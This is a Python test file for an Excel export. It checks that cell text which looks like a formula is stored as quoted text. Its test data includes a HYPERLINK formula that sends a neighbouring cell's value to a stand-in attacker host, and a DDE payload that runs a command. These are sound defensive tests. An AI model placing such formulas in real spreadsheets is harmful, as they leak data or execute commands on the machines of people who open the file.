"""No export hands a spreadsheet program a formula: text that begins like one is stored as
text (with Excel's quote prefix), whatever export writes it."""

import io

import pytest
from openpyxl import load_workbook

from mingzhu.core.excel import write_xlsx
from mingzhu.projects.models import Project

EVIL = '=HYPERLINK("http://evil.example/?"&C2,"点击查看")'


@pytest.mark.parametrize(
    "text", [EVIL, "+1+2", "-3+cmd|' /C calc'!A0", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"]
)
def test_it_writes_formula_like_text_as_text(text):
    sheet = load_workbook(io.BytesIO(write_xlsx("表", ["名称", "数"], [[text, -5]]))).active
    cell = sheet["A3"]
    assert cell.data_type == "s"
    assert cell.value == text  # the text as it was, nothing added
    assert cell.quotePrefix
    number = sheet["B3"]
    assert number.value == -5 and number.data_type == "n"  # numbers stay numbers


def test_it_leaves_ordinary_text_alone():
    sheet = load_workbook(io.BytesIO(write_xlsx("表", ["名称"], [["扬中港区项目"]]))).active
    assert sheet["A3"].value == "扬中港区项目"
    assert not sheet["A3"].quotePrefix


def test_the_supervision_offices_project_export_holds_no_formula(as_user, supervisor):
    project = Project.objects.order_by("pk").first()
    Project.objects.filter(pk=project.pk).update(name=EVIL)
    response = as_user(supervisor).get("/projects/", {"export": "xlsx", "q": "HYPERLINK"})
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [c for row in sheet.iter_rows(min_row=3) for c in row if c.value == EVIL]
    assert cells, "the project is in the export"
    assert all(c.data_type == "s" for c in cells)
